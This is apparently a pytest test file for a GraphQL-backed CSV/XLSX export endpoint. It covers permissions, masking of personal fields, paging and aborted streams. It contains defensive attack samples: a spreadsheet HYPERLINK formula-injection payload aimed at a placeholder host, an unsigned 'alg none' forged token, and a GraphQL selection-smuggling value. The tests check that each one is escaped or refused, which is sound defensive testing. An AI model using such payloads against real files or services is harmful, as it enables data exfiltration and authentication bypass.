"""`GET /export/<connection>` answers what the query answers, as a table, and never looks complete when it is not."""

import asyncio
import io
import threading
import time
from collections.abc import Awaitable, Callable
from datetime import date, datetime
from typing import Any

import httpx
import openpyxl
import pytest

from models import Role
from resolvers.core.mapping import Groups, Pages
from schema import schema
from server.transfer.columns import selection
from server.transfer.exportable import connections
from server.transfer.writing import DoesNotFit, XlsxFile, csv_rows
from tests.exporting import Get, csv_text, dig, everything, refusal, renamed, sheet, table
from tests.sessions import fetch, give, log_in, make_account, transact

CONNECTIONS = connections(schema)
COUNT = "query ($where: PersonFilter) { personnel(where: $where) { totalCount } }"


def test_every_connection_of_the_query_type_can_be_exported() -> None:
    query = schema._schema.query_type
    assert query
    paged = [
        name
        for name, field in query.fields.items()
        if isinstance(field.extensions["strawberry-definition"].metadata.get("zhanwang.mapping"), (Pages, Groups))
    ]
    assert {"stations", "communities", "grids", "personnel", "volunteerTeams", "gridStatistics"} <= set(paged)
    assert [name for name in paged if name not in CONNECTIONS and not _demands(query.fields[name])] == []


def _demands(field: Any) -> bool:
    return any(str(argument.type).endswith("!") for argument in field.args.values())


@pytest.mark.parametrize("name", CONNECTIONS)
@pytest.mark.parametrize("username", ["hub", "leifeng", "nanchengcun", "hub-observer"])
def test_a_connection_exports_what_its_query_answers(ask: Any, export: Get, username: str, name: str) -> None:
    columns = CONNECTIONS[name].columns
    response = export(username, name, headers="en")
    if response.status_code == 403:
        with pytest.raises(AssertionError, match="FORBIDDEN"):
            ask(username, f"{{ {name} {{ totalCount }} }}")
        return
    headers, *rows = table(response)
    leaves = [columns[header] for header in headers if header in columns]
    nodes = everything(ask, username, name, selection(leaf.path for leaf in leaves))
    # Items of a matrix have columns, and rows below, of their own.
    shown = [row[: len(leaves)] for row in rows[: len(nodes)]]
    assert shown == [[csv_text(dig(node, leaf.path)) for leaf in leaves] for node in nodes]
    assert (headers, rows) == (headers[: len(leaves)], rows[: len(nodes)]) or name == "coverage"


def test_headers_and_enumerations_are_chinese_unless_english_is_asked_for(export: Get) -> None:
    headers, hub, *_ = table(export("hub", "stations", fields="code,name,level,openedOn,parent", orderBy=LEVELS))
    assert headers == ["编码", "名称", "级别", "成立日期", "上级站编码", "上级站名称"]
    assert hub[2] == "县级社工总站"
    headers, hub, *_ = table(export("hub", "stations", fields="level,parent.name", headers="en", orderBy=LEVELS))
    assert (headers, hub) == (["level", "parent.name"], ["HUB", ""])


LEVELS = [{"field": "LEVEL", "direction": "DESC"}]


def test_a_file_begins_with_a_byte_order_mark_and_has_a_name(export: Get) -> None:
    response = export("hub", "stations")
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert response.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert 'attachment; filename="stations-2' in response.headers["content-disposition"]
    assert "filename*=UTF-8''%E7%A4%BE%E5%B7%A5%E7%AB%99" in response.headers["content-disposition"]
    assert response.headers["cache-control"] == "no-store"


def test_where_and_order_are_those_of_the_query(ask: Any, export: Get) -> None:
    where = {"kind": {"in": ["SOCIAL_WORKER"]}, "not": {"duty": {"eq": "LINKED_SOCIAL_WORKER"}}}
    order = [{"field": "NAME", "direction": "DESC"}]
    _, *rows = table(export("hub", "personnel", fields="name", where=where, orderBy=order))
    names = [name for (name,) in rows]
    assert len(names) == ask("hub", COUNT, {"where": where})["personnel"]["totalCount"] > 0
    first = "query ($w: PersonFilter, $o: [PersonOrder!]) { personnel(where: $w, orderBy: $o) { nodes { name } } }"
    nodes = ask("hub", first, {"w": where, "o": order})["personnel"]["nodes"]
    assert names[: len(nodes)] == [node["name"] for node in nodes]


def test_other_arguments_of_a_connection_are_parameters_too(ask: Any, export: Get) -> None:
    place = ask("xunzhong", "{ viewer { scope { id } } }")["viewer"]["scope"]["id"]
    asked = {"on": "2024-01-01", "within": place, "kind": "NO_LINKED_SOCIAL_WORKER"}
    query = """query ($on: Date, $within: ID, $kind: ResponsibilityGapKind) {
      responsibilityGaps(first: 100, on: $on, within: $within, kind: $kind) { nodes { place { code } } } }"""
    nodes = ask("hub", query, asked)["responsibilityGaps"]["nodes"]
    _, *rows = table(export("hub", "responsibilityGaps", fields="place.code", **asked))
    assert [code for (code,) in rows] == [node["place"]["code"] for node in nodes]
    assert rows
    refused = export("hub", "responsibilityGaps", **{**asked, "kind": "NOTHING"})
    assert refusal(refused) == (400, "BAD_USER_INPUT")


def test_a_table_of_many_pages_has_every_row_once(ask: Any, export: Get) -> None:
    _, *rows = table(export("hub", "personnel", fields="id"))
    assert len(rows) == len({id_ for (id_,) in rows}) == ask("hub", COUNT)["personnel"]["totalCount"] > 300


def test_the_named_grant_is_the_one_that_exports(ask: Any, export: Get) -> None:
    grants = ask("sanban", "{ viewer { grants { id place { name } } } }")["viewer"]["grants"]
    seen = [[name for (name,) in table(export("sanban", "stations", fields="name", grant=g["id"]))] for g in grants]
    assert len(seen) == 2
    assert seen[0] != seen[1]


def test_an_observer_gets_the_columns_that_are_not_personal(export: Get) -> None:
    headers, *rows = table(export("hub-observer", "personnel"))
    assert "人员类别" in headers
    assert not {"姓名", "手机号", "身份证号", "住址"} & set(headers)
    assert len(rows) > 300
    assert refusal(export("hub-observer", "personnel", fields="kind,phone")) == (403, "FORBIDDEN")


def test_personal_columns_are_masked_and_private_details_are_no_columns(export: Get, database: str) -> None:
    before = fetch(database, "SELECT count(*) FROM audit_entry WHERE action = 'readPrivate'")
    headers, *rows = table(export("hub", "personnel", where={"kind": {"eq": "GRID_WORKER"}}))
    phones = [row[headers.index("手机号")] for row in rows]
    assert all(not phone or "*" in phone for phone in phones)
    assert any(phones)
    for fields in ("private", "private.phone"):
        assert refusal(export("hub", "personnel", fields=fields)) == (400, "BAD_USER_INPUT")
    assert before == fetch(database, "SELECT count(*) FROM audit_entry WHERE action = 'readPrivate'")


@pytest.mark.parametrize(
    ("connection", "parameters", "expected"),
    [
        ("accountz", {}, (404, "NOT_FOUND")),
        ("station", {}, (404, "NOT_FOUND")),
        ("stations", {"where": "{"}, (400, "BAD_REQUEST")),
        ("stations", {"where": {"colour": {"eq": "red"}}}, (400, "BAD_USER_INPUT")),
        ("stations", {"where": {"level": {"eq": "HIGH"}}}, (400, "BAD_USER_INPUT")),
        ("stations", {"orderBy": [{"field": "NAME"}, 7]}, (400, "BAD_USER_INPUT")),
        ("stations", {"were": {"level": {"eq": "HUB"}}}, (400, "BAD_REQUEST")),
        ("stations", {"format": "pdf"}, (400, "BAD_REQUEST")),
        ("stations", {"fields": "name } } { viewer"}, (400, "BAD_USER_INPUT")),
        ("stations", {"fields": ""}, (400, "BAD_USER_INPUT")),
    ],
)
@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_what_cannot_be_exported_is_refused_with_a_code(
    export: Get, connection: str, parameters: dict[str, Any], expected: tuple[int, str], form: str
) -> None:
    assert refusal(export("hub", connection, **{"format": form, **parameters})) == expected


def test_who_asks_must_be_known_and_allowed(client: httpx.Client, export: Get) -> None:
    assert refusal(export(None, "stations")) == (401, "UNAUTHENTICATED")
    forged = client.get("/export/stations", headers={"Authorization": "Bearer eyJhbGciOiJub25lIn0.e30."})
    assert refusal(forged) == (401, "UNAUTHENTICATED")
    assert refusal(export("leifeng", "stations", grant="R999999")) == (401, "UNAUTHENTICATED")
    phone = {"phone": {"eq": "19900000000"}}
    assert refusal(export("nanchengcun", "personnel", where=phone)) == (403, "FORBIDDEN")
    assert refusal(export("hub", "stations", method="POST")) == (405, "METHOD_NOT_ALLOWED")


def test_a_sheet_has_the_rows_of_the_csv_with_numbers_and_dates(export: Get) -> None:
    fields = "code,name,level,openedOn,closedOn,parent"
    response = export("hub", "stations", format="xlsx", fields=fields)
    assert int(response.headers["content-length"]) == len(response.content)
    headers, *rows = sheet(response)
    plain = table(export("hub", "stations", fields=fields))
    assert list(headers) == plain[0]
    assert [[_plain(cell) for cell in row] for row in rows] == plain[1:]
    assert all(isinstance(row[3], datetime) for row in rows)
    _, *grids = sheet(export("leifeng", "grids", format="xlsx", fields="code,households"))
    assert grids
    assert {(type(code), type(households)) for code, households in grids} == {(str, int)}


def _plain(cell: Any) -> str:
    return "" if cell is None else cell.date().isoformat() if isinstance(cell, datetime) else str(cell)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
def test_no_cell_is_a_formula(export: Get, database: str, start: str) -> None:
    name = f'{start}HYPERLINK("http://x.invalid?"&A1,"点")'
    with renamed(database, name) as code:
        where = {"code": {"eq": code}}
        assert table(export("hub", "grids", fields="name", where=where))[1] == [f"'{name}"]
        content = export("hub", "grids", fields="name", where=where, format="xlsx").content
    cell = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]["A2"]
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert cell.value == name.replace("\r", "_x000D_")


def test_values_keep_their_kinds_in_csv() -> None:
    assert csv_rows([["a", -5, None, date(2024, 5, 1), 'say "hi"\n']]) == b'a,-5,,2024-05-01,"say ""hi""\n"\r\n'


def test_what_a_sheet_cannot_hold_is_not_cut(tmp_path: Any) -> None:
    book = XlsxFile(str(tmp_path), "表", ["a"])
    with pytest.raises(DoesNotFit):
        book.add([["x" * 32_768]])
    book.discard()


def pausing(monkeypatch: pytest.MonkeyPatch, before: Callable[[int], Awaitable[None]]) -> list[int]:
    """Awaits before each page; the numbers of the pages that were asked for."""
    execute = schema.execute
    pages: list[int] = []

    async def slow(query: str, *args: Any, **named: Any) -> Any:
        if "pageInfo" in query:
            pages.append(len(pages))
            await before(pages[-1])
        return await execute(query, *args, **named)

    monkeypatch.setattr(schema, "execute", slow)
    return pages


def own_account(client: httpx.Client, database: str) -> tuple[str, dict[str, str]]:
    """A fresh account, an observer of the county; its name, and the headers that speak for it."""
    username = make_account(database)
    return username, {"Authorization": f"Bearer {log_in(client, username)['accessToken']}"}


def end_first_grant(database: str, username: str) -> None:
    sql = """
    UPDATE account_grant SET valid_to = now() WHERE id = (
      SELECT min(g.id) FROM account_grant g JOIN account a ON a.id = g.account_id WHERE a.username = $1)
    """
    transact(database, lambda c: c.execute(sql, username))


@pytest.mark.parametrize("further_grant", [False, True])
@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_an_export_whose_grant_ends_in_the_middle_does_not_look_complete(
    client: httpx.Client, database: str, monkeypatch: pytest.MonkeyPatch, form: str, further_grant: bool
) -> None:
    username, headers = own_account(client, database)
    if further_grant:
        # Under which the same request would be answered, with other rows.
        station = fetch(database, "SELECT code FROM station WHERE level = 'BASIC' ORDER BY id LIMIT 1")[0]["code"]
        give(database, username, station, Role.OBSERVER)

    async def end(page: int) -> None:
        if page == 2:
            await asyncio.to_thread(end_first_grant, database, username)

    pausing(monkeypatch, end)
    if form == "xlsx":
        assert refusal(client.get("/export/grids?format=xlsx", headers=headers)) == (401, "UNAUTHENTICATED")
        return
    with client.stream("GET", "/export/grids", headers=headers) as response:
        assert response.status_code == 200
        with pytest.raises(httpx.RemoteProtocolError):
            response.read()


def test_an_export_that_fails_in_the_middle_does_not_look_complete(
    client: httpx.Client, database: str, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    _, headers = own_account(client, database)

    async def fail(page: int) -> None:
        if page == 1:
            raise RuntimeError("the disk is on fire")

    pausing(monkeypatch, fail)
    with (
        client.stream("GET", "/export/grids", headers=headers) as response,
        pytest.raises(httpx.RemoteProtocolError),
    ):
        response.read()
    assert "the disk is on fire" in caplog.text


def test_an_export_stops_when_its_client_goes_away(
    client: httpx.Client, database: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    _, headers = own_account(client, database)

    async def wait(_: int) -> None:
        await asyncio.sleep(0.1)

    pages = pausing(monkeypatch, wait)
    with client.stream("GET", "/export/personnel", headers=headers) as response:
        next(response.iter_raw())
    time.sleep(0.5)
    asked = len(pages)
    time.sleep(0.5)
    assert len(pages) == asked


def test_an_account_has_two_exports_under_way_at_the_most(
    client: httpx.Client, database: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    _, headers = own_account(client, database)
    _, others = own_account(client, database)
    free = threading.Event()

    async def wait(page: int) -> None:
        if page < 2:
            await asyncio.to_thread(free.wait, 20)

    pages = pausing(monkeypatch, wait)
    answers: list[int] = []
    threads = [
        threading.Thread(target=lambda: answers.append(client.get("/export/stations", headers=headers).status_code))
        for _ in range(2)
    ]
    for thread in threads:
        thread.start()
    while len(pages) < 2:
        time.sleep(0.01)
    third = client.get("/export/stations", headers=headers)
    assert refusal(third) == (429, "BUSY")
    assert third.headers["retry-after"]
    assert client.get("/export/stations", headers=others).status_code == 200
    free.set()
    for thread in threads:
        thread.join()
    assert answers == [200, 200]
    # The server notes the end of an export a moment after the last byte of it.
    deadline = time.monotonic() + 5
    while (status := client.get("/export/stations", headers=headers).status_code) != 200:
        assert (status, time.monotonic() < deadline) == (429, True)
        time.sleep(0.01)
